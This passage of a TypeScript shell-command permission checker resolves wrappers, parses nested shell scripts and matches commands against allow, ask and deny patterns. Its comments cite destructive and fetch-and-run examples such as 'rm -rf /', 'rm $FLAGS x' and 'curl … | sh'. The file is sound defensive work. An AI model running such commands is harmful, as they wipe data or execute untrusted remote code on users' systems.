    }
  }
  return { literal };
}

// ---------------------------------------------------------------------------------------------
// Wrappers and programs

/** Options of a wrapper that runs another command; anything not listed makes it opaque. */
interface WrapperSpec {
  /** Short options without a value. */
  flags?: string;
  /** Short options with a value (attached `-n5` or next word). */
  valued?: string;
  /** Short options whose value may only be attached (`xargs -e[eof]`). */
  attached?: string;
  long?: Record<string, 'flag' | 'value' | 'optional'>;
  /** Positional operands before the command (`timeout DURATION`). */
  operands?: number;
  /** `NAME=value` operands before the command (env, sudo). */
  assignments?: boolean;
  /** `nice -5`. */
  numeric?: boolean;
}

const WRAPPERS: Record<string, WrapperSpec> = {
  env: {
    flags: '0iv',
    valued: 'u',
    long: {
      'ignore-environment': 'flag',
      null: 'flag',
      unset: 'value',
      debug: 'flag',
      'block-signal': 'optional',
      'default-signal': 'optional',
      'ignore-signal': 'optional',
      'list-signal-handling': 'flag',
    },
    assignments: true,
  },
  nice: { valued: 'n', long: { adjustment: 'value' }, numeric: true },
  timeout: { flags: 'v', valued: 'sk', long: { signal: 'value', 'kill-after': 'value', 'preserve-status': 'flag', foreground: 'flag', verbose: 'flag' }, operands: 1 },
  nohup: {},
  // bash's `time` keyword knows only -p (GNU time's -o writes a file).
  time: { flags: 'p' },
  stdbuf: { valued: 'ioe', long: { input: 'value', output: 'value', error: 'value' } },
  ionice: { flags: 't', valued: 'cn', long: { class: 'value', classdata: 'value', ignore: 'flag' } },
  xargs: {
    flags: '0rtpxo',
    valued: 'nLPsdaE',
    attached: 'el',
    long: {
      null: 'flag',
      'no-run-if-empty': 'flag',
      verbose: 'flag',
      interactive: 'flag',
      exit: 'flag',
      'open-tty': 'flag',
      'show-limits': 'flag',
      'max-args': 'value',
      'max-lines': 'optional',
      'max-procs': 'value',
      'max-chars': 'value',
      delimiter: 'value',
      'arg-file': 'value',
      eof: 'optional',
    },
  },
  exec: { flags: 'cl', valued: 'a' },
  command: { flags: 'p' },
  builtin: {},
};

/** Wrappers that change who runs the command: both the wrapper and the command need a rule. */
const PRIVILEGED: Record<string, WrapperSpec> = {
  sudo: {
    flags: 'AbEHKkLlnPSV',
    valued: 'ughpCDrtTRU',
    long: {
      user: 'value',
      group: 'value',
      host: 'value',
      prompt: 'value',
      'close-from': 'value',
      chdir: 'value',
      role: 'value',
      type: 'value',
      'command-timeout': 'value',
      'other-user': 'value',
      'preserve-env': 'optional',
      'preserve-groups': 'flag',
      'set-home': 'flag',
      'non-interactive': 'flag',
      askpass: 'flag',
      background: 'flag',
      stdin: 'flag',
      'reset-timestamp': 'flag',
      'remove-timestamp': 'flag',
      list: 'flag',
    },
    assignments: true,
  },
  doas: { flags: 'n', valued: 'u' },
};

/** Shells whose `-c` script is parsed too (sh may be dash: parsed with the sh caveats). */
const SHELLS: Record<string, Walk['dialect']> = { bash: 'bash', sh: 'sh', dash: 'sh', ash: 'sh' };
/** Shells with another grammar: their `-c` scripts cannot be read here. */
const OTHER_SHELLS = new Set(['zsh', 'ksh', 'mksh', 'fish', 'csh', 'tcsh', 'pwsh', 'busybox']);

/** Builtins that run text as code or change how later words are read. */
const OPAQUE_BUILTINS: Record<string, string> = {
  eval: 'eval runs text as a command',
  trap: 'trap runs text as a command',
  enable: 'enable can load builtins from a library',
  alias: 'alias changes what a name runs',
  hash: 'hash can change what a name runs',
  bind: 'bind can run commands',
  complete: 'complete can run commands',
  compgen: 'compgen can run commands',
  fc: 'fc runs commands from history',
  let: 'let evaluates arithmetic',
  coproc: 'coproc',
  shopt: 'shopt changes how the rest of the command is read',
};

/** Resolve wrappers until the real program, then record the command (`timeout 5 rm -rf /` → `rm -rf /`). */
function resolveCommand(walk: Walk, initial: Word[], text: string, stdin: Stdin | undefined): void {
  let words = initial;
  let appends = false;
  let emitted: Word[] | undefined;
  const emitOnce = (current: Word[]) => {
    if (current !== emitted) emit(walk, current, text, appends);
    emitted = current;
  };
  for (let guard = 0; guard < 64; guard += 1) {
    const head = words[0];
    if (!head) {
      if (appends) opaque(walk, 'xargs runs a program taken from its input');
      return;
    }
    if (head.dynamic) {
      opaque(walk, `the program is not a literal word (${head.text})`);
      return emitOnce(words);
    }
    const name = head.text;
    const base = name.includes('/') ? path.posix.basename(name) : name;
    const known = WRAPPERS[base] ?? PRIVILEGED[base] ?? SHELLS[base];
    if (name.includes('/') || PRIVILEGED[base]) {
      // A wrapper run by path (`./env`, maybe planted) or sudo is a command of its own; what it
      // runs is still checked below.
      emitOnce(words);
      if (!known) return;
    }
    if (name === base && OPAQUE_BUILTINS[name]) {
      opaque(walk, OPAQUE_BUILTINS[name] as string);
      if (name === 'eval') nestedBestEffort(walk, words.slice(1));
      return emitOnce(words);
    }
    const wrapper = WRAPPERS[base] ?? PRIVILEGED[base];
    if (wrapper) {
      if (base === 'command' && words[1] && /^-[pvV]*[vV]/.test(words[1].text)) return emitOnce(words); // `command -v x` only looks
      const inner = peelWrapper(walk, base, wrapper, words);
      if (!inner) return emitOnce(words);
      if (base === 'xargs') {
        appends = true;
        if (inner.length === 0) inner.push({ text: 'echo', dynamic: false, start: head.start });
      }
      if (inner.length === 0 && appends) {
        // `xargs timeout 5`: the program comes from the input.
        opaque(walk, 'xargs runs a program taken from its input');
        return emitOnce(words);
      }
      if (inner.length === 0) return emitOnce(words); // `env`, `nice`, `exec` alone
      words = inner;
      continue;
    }
    const dialect = SHELLS[base];
    if (dialect) return runShell(walk, words, stdin, dialect, appends, emitOnce);
    if (OTHER_SHELLS.has(base) && words.some((word) => /^-[a-zA-Z]*c/.test(word.text) || word.text === '--command')) {
      opaque(walk, `${base} -c: another shell's grammar`);
      return emitOnce(words);
    }
    if ((name === 'source' || name === '.') && words.slice(1).some((word) => word.dynamic)) opaque(walk, `${name} of a file only known at run time`);
    if (NAME_BUILTINS.has(name)) checkNameArguments(walk, name, words);
    if (name === 'printf') {
      const option = words.findIndex((word, index) => index > 0 && word.text === '-v');
      const target = words[option + 1];
      if (option > 0 && (!target || target.dynamic)) opaque(walk, 'printf -v with a name only known at run time');
      else if (option > 0 && target) checkNameWord(walk, 'printf -v', target.text);
    }
    if (name === 'test' || name === '[') checkTestArguments(walk, words);
    if (name === 'set' && words.slice(1).some((word) => word.dynamic || /^[-+][a-zA-Z]*k/.test(word.text) || word.text === 'keyword')) {
      opaque(walk, 'set -k passes later assignments to commands');
    }
    return emitOnce(words);
  }
  opaque(walk, 'too many nested wrappers');
}

/** The command a wrapper runs, after its options (undefined: opaque, the reason is recorded). */
function peelWrapper(walk: Walk, name: string, spec: WrapperSpec, words: Word[]): Word[] | undefined {
  let index = 1;
  let operands = spec.operands ?? 0;
  const fail = (reason: string): undefined => {
    opaque(walk, reason);
    return undefined;
  };
  while (index < words.length) {
    const word = words[index] as Word;
    if (word.dynamic) return fail(`${name} with an argument only known at run time (${word.text})`);
    const text = word.text;
    if (text === '--') {
      index += 1;
      break;
    }
    if (name === 'env' && text === '-') {
      index += 1;
      continue;
    }
    if (text.startsWith('--')) {
      const [option = '', value] = text.slice(2).split(/=(.*)/s);
      const kind = spec.long?.[option];
      if (!kind) return fail(`${name} ${text}`);
      if (kind === 'value' && value === undefined) index += 1;
      index += 1;
      continue;
    }
    if (text.startsWith('-') && text.length > 1) {
      if (spec.numeric && /^-[0-9]+$/.test(text)) {
        index += 1;
        continue;
      }
      let consumedNext = false;
      for (let position = 1; position < text.length; position += 1) {
        const flag = text[position] as string;
        if (spec.flags?.includes(flag)) continue;
        if (spec.attached?.includes(flag)) break;
        if (spec.valued?.includes(flag)) {
          if (position === text.length - 1) consumedNext = true;
          break;
        }
        return fail(`${name} -${flag}`);
      }
      if (consumedNext && words[index + 1]?.dynamic) return fail(`${name} with an argument only known at run time`);
      index += consumedNext ? 2 : 1;
      continue;
    }
    if (spec.assignments && text.includes('=')) {
      checkEnvironmentOperand(walk, word);
      index += 1;
      continue;
    }
    if (operands > 0) {
      operands -= 1;
      index += 1;
      continue;
    }
    break;
  }
  if (operands > 0) return [];
  return words.slice(index);
}

/**
 * `bash -c 'script'` is looked through (the script is parsed); `bash script.sh` is a command
 * like `python train.py`; a shell reading its script from standard input is parsed when that is
 * a literal heredoc or here-string, and opaque otherwise (`curl … | sh`).
 */
function runShell(
  walk: Walk,
  words: Word[],
  stdin: Stdin | undefined,
  dialect: Walk['dialect'],
  appends: boolean,
  emitOnce: (words: Word[]) => void,
): void {
  const name = words[0]?.text ?? 'sh';
  let index = 1;
  let commandMode = false;
  let stdinMode = false;
  while (index < words.length) {
    const word = words[index] as Word;
    if (word.dynamic) {
      opaque(walk, `${name} with an option only known at run time`);
      return emitOnce(words);
    }
    const option = word.text;
    if (option === '--' || option === '-') {
      index += 1;
      break;
    }
    if (option.startsWith('--')) {
      if (!['--norc', '--noprofile', '--login', '--posix', '--noediting', '--restricted', '--verbose'].includes(option)) {
        opaque(walk, `${name} ${option}`);
        return emitOnce(words);
      }
      index += 1;
      continue;
    }
    if (!/^[-+]./.test(option)) break;
    let takesValue = false;
    for (const flag of option.slice(1)) {
      if (flag === 'c') commandMode = true;
      else if (flag === 's') stdinMode = true;
      else if (flag === 'o' || flag === 'O') takesValue = true;
      else if (!'abefhmnprtuvxBCEHklPT'.includes(flag)) {
        // -i (interactive) reads ~/.bashrc and expands aliases and history.
        opaque(walk, `${name} -${flag}`);
        return emitOnce(words);
      }
    }
    index += takesValue ? 2 : 1;
  }
  if (commandMode) {
    const script = words[index];
    if (!script || script.dynamic) {
      opaque(walk, `${name} -c with a script that is not a literal`);
      return emitOnce(words);
    }
    return nestedScript(walk, script.text, dialect);
  }
  if (!stdinMode && index < words.length) return emitOnce(words);
  if (appends) {
    opaque(walk, `${name} with a script named by xargs input`);
    return emitOnce(words);
  }
  if (stdin?.literal === undefined) {
    opaque(walk, `${name} reads its script from standard input`);
    return emitOnce(words);
  }
  return nestedScript(walk, stdin.literal, dialect);
}

function nestedScript(walk: Walk, script: string, dialect: Walk['dialect']): void {
  if (walk.depth >= MAX_NESTING) return opaque(walk, 'shell scripts nested too deeply');
  const outerDialect = walk.dialect;
  walk.depth += 1;
  walk.dialect = dialect === 'sh' || outerDialect === 'sh' ? 'sh' : 'bash';
  try {
    analyzeSource(walk, script);
  } finally {
    walk.depth -= 1;
    walk.dialect = outerDialect;
  }
}

/** `eval 'rm -rf /'` stays opaque, but its literal text is parsed so deny rules still see it. */
function nestedBestEffort(walk: Walk, words: Word[]): void {
  if (words.length === 0 || words.some((word) => word.dynamic)) return;
  nestedScript(walk, words.map((word) => word.text).join(' '), walk.dialect);
}

function emit(walk: Walk, words: Word[], text: string, appends: boolean): void {
  if (words.length === 0) return;
  const command: SimpleCommand = { words: words.map((word) => word.text), program: words[0]?.text ?? '', text };
  if (words.some((word) => word.dynamic)) command.dynamic = words.map((word) => word.dynamic);
  if (appends) command.appendsArguments = true;
  walk.commands.push(command);
}

// ---------------------------------------------------------------------------------------------
// Matching

/** A run-time value in a subject: any text, of any length. */
const UNKNOWN = Symbol('unknown');
type Element = string | typeof UNKNOWN;
type PatternElement = string | typeof STAR;
const STAR = Symbol('star');

interface CompiledPattern {
  /** The program word (undefined: the pattern is a glob over the whole command). */
  program: string | undefined;
  /** Alternatives for the rest: `install *` and `install` (a trailing ` *` may match nothing). */
  rest: PatternElement[][];
}

const compiledPatterns = new Map<string, CompiledPattern>();

function normaliseSpaces(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}

/** Pattern text to elements: `*` is a wildcard, `\*` and `\\` are literal. */
function patternElements(text: string): PatternElement[] {
  const elements: PatternElement[] = [];
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index] as string;
    if (char === '\\' && (text[index + 1] === '*' || text[index + 1] === '\\')) {
      elements.push(text[index + 1] as string);
      index += 1;
    } else {
      elements.push(char === '*' ? STAR : char);
    }
  }
  return elements;
}

/** A trailing ` *` may match nothing: `pip install *` also matches `pip install`. */
function withOptionalTail(text: string): PatternElement[][] {
  const alternatives = [patternElements(text)];
  if (text === '*' || text.endsWith(' *')) alternatives.push(patternElements(text.slice(0, -2)));
  return alternatives;
}

/** Any pattern as a glob over a whole text (deny patterns against an opaque command's source). */
function wholeTextAlternatives(pattern: string): PatternElement[][] {
  return withOptionalTail(normaliseSpaces(pattern));
}

function compilePattern(pattern: string): CompiledPattern {
  const cached = compiledPatterns.get(pattern);
  if (cached) return cached;
  const normalised = normaliseSpaces(pattern);
  const space = normalised.indexOf(' ');
  const first = space === -1 ? normalised : normalised.slice(0, space);
  const firstElements = patternElements(first);
  let compiled: CompiledPattern;
  if (firstElements.includes(STAR)) {
    compiled = { program: undefined, rest: withOptionalTail(normalised) };
  } else {
    compiled = { program: firstElements.join(''), rest: withOptionalTail(space === -1 ? '' : normalised.slice(space + 1)) };
  }
  if (compiledPatterns.size > 1000) compiledPatterns.clear();
  compiledPatterns.set(pattern, compiled);
  return compiled;
}

/**
 * Words from `from` on as match elements, joined by single spaces; a dynamic word is one
 * UNKNOWN. Two variants when xargs appends arguments: without them, and with ` UNKNOWN`.
 */
function subjectVariants(command: SimpleCommand, from: number): Element[][] {
  const elements: Element[] = [];
  for (let index = from; index < command.words.length; index += 1) {
    elements.push(' ');
    const word = command.words[index] ?? '';
    if (command.dynamic?.[index]) elements.push(UNKNOWN);
    // An empty argument is still an argument: it reads as `''`.
    else if (word.trim() === '') elements.push("'", "'");
    else for (const char of word) elements.push(/\s/.test(char) ? ' ' : char);
  }
  // Leading, trailing and repeated whitespace never matter.
  const collapsed: Element[] = [];
  for (const element of elements) {
    if (element === ' ' && (collapsed.length === 0 || collapsed[collapsed.length - 1] === ' ')) continue;
    collapsed.push(element);
  }
  if (collapsed[collapsed.length - 1] === ' ') collapsed.pop();
  if (!command.appendsArguments) return [collapsed];
  return [collapsed, collapsed.length === 0 ? [UNKNOWN] : [...collapsed, ' ', UNKNOWN]];
}

/**
 * Glob match of pattern elements against subject elements. `certain`: every run-time value of
 * the UNKNOWN parts matches (they must fall inside a `*`). Otherwise: some value could match,
 * taking each UNKNOWN as one word (`rm $FLAGS /` could be `rm -rf /`, but `pip install $PKG`
 * is not taken to contain `rm -rf`). Dynamic programming over suffixes, one row at a time.
 */
function globMatches(pattern: PatternElement[], subject: Element[], certain: boolean): boolean {
  const width = subject.length + 1;
  let below = new Uint8Array(width); // row i + 1
  let row = new Uint8Array(width);
  // Row for the empty pattern: matches the empty subject, or (possibly) only UNKNOWNs.
  below[subject.length] = 1;
  for (let j = subject.length - 1; j >= 0; j -= 1) below[j] = !certain && subject[j] === UNKNOWN && below[j + 1] ? 1 : 0;
  for (let i = pattern.length - 1; i >= 0; i -= 1) {
    const element = pattern[i];
    for (let j = subject.length; j >= 0; j -= 1) {
      const current = subject[j];
      let match = false;
      if (element === STAR) match = below[j] === 1 || (j < subject.length && row[j + 1] === 1);
      // Possibly: a run-time word is one word (no spaces) of any text, including none.
      else if (current === UNKNOWN) match = !certain && (row[j + 1] === 1 || (element !== ' ' && below[j] === 1));
      else match = j < subject.length && current === element && below[j + 1] === 1;
      row[j] = match ? 1 : 0;
    }
    [below, row] = [row, below];
  }
  return below[0] === 1;
}

const resolvedPrograms = new Map<string, string | undefined>();

/** Where PATH finds `name`, like `command -v` (absolute entries only; cached per PATH). */
export function resolveProgramOnPath(name: string): string | undefined {
  const searchPath = process.env.PATH ?? '';
  const key = `${searchPath}\u0000${name}`;
  if (resolvedPrograms.has(key)) return resolvedPrograms.get(key);
  let found: string | undefined;
  for (const directory of searchPath.split(path.delimiter)) {
    if (!path.isAbsolute(directory)) continue;
    const candidate = path.join(directory, name);
    try {
      accessSync(candidate, fsConstants.X_OK);
      if (statSync(candidate).isFile()) {
        found = candidate;
        break;
      }
    } catch {
      // not here
    }
  }
  if (resolvedPrograms.size > 1000) resolvedPrograms.clear();
  resolvedPrograms.set(key, found);
  return found;
}

/**
 * A bare program name in a pattern matches the same bare word, or an absolute path equal to
 * what PATH resolves the name to (`./pip` and `/tmp/x/pip` are not `pip`). Possibly: any path
 * whose last part is the name.
 */
function programMatches(patternProgram: string, word: string, certain: boolean, options: MatchOptions | undefined): boolean {
  if (word === patternProgram) return true;
  if (!word.includes('/')) return false;
  if (!certain) return path.posix.basename(word) === path.posix.basename(patternProgram);
  if (patternProgram.includes('/') || !word.startsWith('/')) return false;
  const resolve = options?.resolveProgram ?? resolveProgramOnPath;
  return resolve(patternProgram) === word;
}

function matches(pattern: string, command: SimpleCommand, certain: boolean, options: MatchOptions | undefined): boolean {
  if (normaliseSpaces(pattern) === '' || command.words.length === 0) return false;
  const compiled = compilePattern(pattern);
  let from = 0;
  if (compiled.program !== undefined) {
    if (command.dynamic?.[0]) {
      if (certain) return false;
    } else if (!programMatches(compiled.program, command.words[0] ?? '', certain, options)) {
      return false;
    }
    from = 1;
  }
  // Certain: every variant of the subject matches; possible: some variant could.
  const variantMatches = (subject: Element[]) => compiled.rest.some((rest) => globMatches(rest, subject, certain));
  const variants = subjectVariants(command, from);
  return certain ? variants.every(variantMatches) : variants.some(variantMatches);
}

/** True when `pattern` matches `command` whatever its run-time values turn out to be (use for allow). */
export function commandMatches(pattern: string, command: SimpleCommand, options?: MatchOptions): boolean {
  return matches(pattern, command, true, options);
}

/** True when `pattern` could match `command` for some run-time values (`rm $FLAGS x` vs `rm -rf *`). */
export function commandMayMatch(pattern: string, command: SimpleCommand, options?: MatchOptions): boolean {
  return matches(pattern, command, false, options);
}

function rulePatterns(rule: CommandRule): string[] {
  return Array.isArray(rule.pattern) ? rule.pattern : [rule.pattern];
}

/**
 * The decision of command rules for an analysed command:
 * - deny when a simple command certainly matches a deny pattern (for an opaque command: one of
 *   its partial commands does, or the pattern matches its whole raw text);
 * - ask when a simple command matches an ask pattern, or could match a deny pattern through a
 *   run-time value (`rm $FLAGS x` with `rm -rf *`);
 * - allow only when the analysis is `commands`, there is at least one, and every one certainly
 *   matches an allow pattern (the returned `pattern` lists the ones used);
 * - otherwise undefined: no rule decides (an opaque command is never allowed by a rule).
 */
export function evaluateCommandRules(
  analysis: ShellAnalysis,
  raw: string,
  rules: readonly CommandRule[],
  options?: MatchOptions,
): { action: 'allow' | 'ask' | 'deny'; pattern: string } | undefined {
  const denyPatterns = rules.filter((rule) => rule.action === 'deny').flatMap(rulePatterns);
  if (analysis.kind === 'opaque') {
    const rawText = subjectVariants({ words: [raw], program: raw, text: raw }, 0)[0] ?? [];
    for (const pattern of denyPatterns) {
      if (analysis.partialCommands.some((command) => commandMatches(pattern, command, options))) return { action: 'deny', pattern };
      if (wholeTextAlternatives(pattern).some((elements) => globMatches(elements, rawText, true))) return { action: 'deny', pattern };
    }
    return undefined;
  }
  const { commands } = analysis;
  for (const pattern of denyPatterns) {
    if (commands.some((command) => commandMatches(pattern, command, options))) return { action: 'deny', pattern };
  }
  for (const rule of rules) {
    if (rule.action === 'allow') continue;
    for (const pattern of rulePatterns(rule)) {
      if (commands.some((command) => commandMayMatch(pattern, command, options))) return { action: 'ask', pattern };
    }
  }
  const allowPatterns = rules.filter((rule) => rule.action === 'allow').flatMap(rulePatterns);
  if (commands.length === 0) return undefined;
  const used: string[] = [];
  for (const command of commands) {
    const pattern = allowPatterns.find((candidate) => commandMatches(candidate, command, options));
    if (pattern === undefined) return undefined;
    if (!used.includes(pattern)) used.push(pattern);
  }
  return { action: 'allow', pattern: used.join(', ') };
}

// ---------------------------------------------------------------------------------------------
// "Always allow" scopes

/** Programs whose first argument is a subcommand: "always" covers `git status *`, not `git *`. */
const SUBCOMMAND_PROGRAMS = new Set([
  'git',
  'pip',
  'pip3',
  'uv',
  'conda',
  'mamba',
  'micromamba',
  'npm',
  'pnpm',
  'yarn',
  'bun',
  'docker',
  'podman',
  'kubectl',
  'helm',
  'cargo',
  'go',
  'apt',
  'apt-get',
  'brew',
  'huggingface-cli',
  'hf',
  'gh',
  'poetry',
  'pipx',
  'pdm',
  'hatch',
  'accelerate',
  'wandb',
  'dvc',
  'modal',
  'gcloud',
  'aws',
  'az',
  'kaggle',
  'jupyter',
  'rustup',
  'pyenv',
  'ollama',
  'systemctl',
  'tmux',
]);

/** Programs that run code from a file or their arguments: "always" covers the exact command only. */
const INTERPRETERS = /^(python[0-9.]*|pypy[0-9.]*|node|nodejs|deno|bash|sh|dash|zsh|ksh|fish|perl|ruby|Rscript|R|php|lua|julia|java|tclsh|awk|gawk|mawk|nawk|sed|make|source|\.|torchrun|deepspeed)$/;

function escapePattern(word: string): string {
  const normalised = normaliseSpaces(word);
  return normalised === '' ? "''" : normalised.replace(/[\\*]/g, (char) => `\\${char}`);
}

/**
 * The narrowest useful "always allow" patterns for a command, one per distinct simple command:
 * `pip install numpy` → `pip install *` (which also matches `pip install`); an interpreter or
 * an unknown program → the exact command (`python train.py`); a path → the exact command.
 * Undefined when nothing narrow enough exists: an opaque command, an interpreter reading its
 * program from standard input, a dynamic program, subcommand or interpreter argument.
 */
export function alwaysAllowScope(analysis: ShellAnalysis): { patterns: string[]; description: string } | undefined {
  if (analysis.kind !== 'commands' || analysis.commands.length === 0) return undefined;
  const patterns: string[] = [];
  const descriptions: string[] = [];
  for (const command of analysis.commands) {
    const scope = commandScope(command);
    if (!scope) return undefined;
    if (patterns.includes(scope.pattern)) continue;
    patterns.push(scope.pattern);
    descriptions.push(scope.description);
  }
  return { patterns, description: descriptions.join(', ') };
}

function commandScope(command: SimpleCommand): { pattern: string; description: string } | undefined {
  const { words } = command;
  const program = words[0];
  if (program === undefined || command.dynamic?.[0] || /\s/.test(program) || program === '') return undefined;
  const subcommand = words[1];
  if (SUBCOMMAND_PROGRAMS.has(program) && subcommand !== undefined && !command.dynamic?.[1] && /^[a-z][a-z0-9_-]*$/i.test(subcommand)) {
    const prefix = `${program} ${subcommand}`;
    return { pattern: `${prefix} *`, description: `${prefix} …` };
  }
  // Exact command: every word must be literal, and an interpreter must name its program.
  if (command.dynamic?.some(Boolean) || command.appendsArguments) return undefined;
  const base = path.posix.basename(program);
  if (INTERPRETERS.test(base) && words.slice(1).every((word) => word.startsWith('-'))) return undefined;
  const exact = words.map((word) => normaliseSpaces(word)).join(' ');
  return { pattern: words.map(escapePattern).join(' '), description: exact.length > 80 ? `${exact.slice(0, 79)}…` : exact };
}
